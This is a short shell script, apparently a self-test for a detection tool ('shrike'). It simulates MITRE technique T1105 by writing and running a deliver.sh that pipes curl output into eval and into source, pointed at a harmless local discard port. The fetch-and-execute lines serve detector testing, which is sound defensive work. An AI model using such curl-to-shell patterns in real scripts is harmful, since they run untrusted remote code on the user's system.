#!/bin/sh
# rule: Script fetched into a pipe
# technique: T1105
# case: a shell evaluates what curl fetches, from nobody
# needs: bash, curl

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
. "${0%/*}/../undo.inc"
outside
cat > deliver.sh <<'END'
eval "$(curl -s http://127.0.0.1:9/x.sh)"
. <(curl -fsSL http://127.0.0.1:9/y.sh)
END
bash deliver.sh; true
